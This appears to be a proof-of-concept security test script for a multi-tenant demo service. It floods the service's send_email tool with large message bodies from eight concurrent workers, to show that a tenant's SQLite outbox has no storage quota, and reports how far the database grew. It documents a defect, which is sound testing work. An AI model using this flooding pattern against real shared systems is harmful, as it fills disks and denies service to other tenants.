"""No storage quota on a tenant's SQL database: the demo's send_email stores each 20,000-character
body in the tenant's outbox table, and nothing bounds how much the table (the SQLite file on the
shared disk) grows: only the call rate does (50/s, 1,000,000 calls a day by default).

Run: TENANTRY_DATA_DIR=... .venv/bin/python attack/sql_storage_unbounded.py [calls]
"""

from __future__ import annotations

import asyncio
import os
import sys
import time
from pathlib import Path

import httpx2

sys.path.insert(0, str(Path(__file__).parent))
from common import MCP, token  # noqa: E402
from noisy_neighbour import call_body  # noqa: E402

tenant_dir = Path(os.environ["TENANTRY_DATA_DIR"]) / "tenants" / "acme"


def size() -> int:
    return sum(p.stat().st_size for p in tenant_dir.glob("data.sqlite3*"))


async def main(calls: int) -> None:
    tok = token()
    content, hdr = call_body("send_email", {"to": "x@example.com", "subject": "s", "body": "€" * 20000})
    before, t0, ok = size(), time.time(), 0
    async with httpx2.AsyncClient(timeout=30) as client:
        async def worker(n: int) -> None:
            nonlocal ok
            for _ in range(n):
                r = await client.post(MCP, content=content, headers={**hdr, "Authorization": f"Bearer {tok}"})
                if r.status_code == 200 and '"queued"' in r.text:
                    ok += 1
                else:
                    await asyncio.sleep(0.5)
        await asyncio.gather(*[worker(calls // 8) for _ in range(8)])
    print(f"{ok} emails queued in {time.time() - t0:.1f}s; acme's database grew "
          f"{(size() - before) / 1e6:.1f} MB (now {size() / 1e6:.1f} MB); no quota refused any")


asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 200))
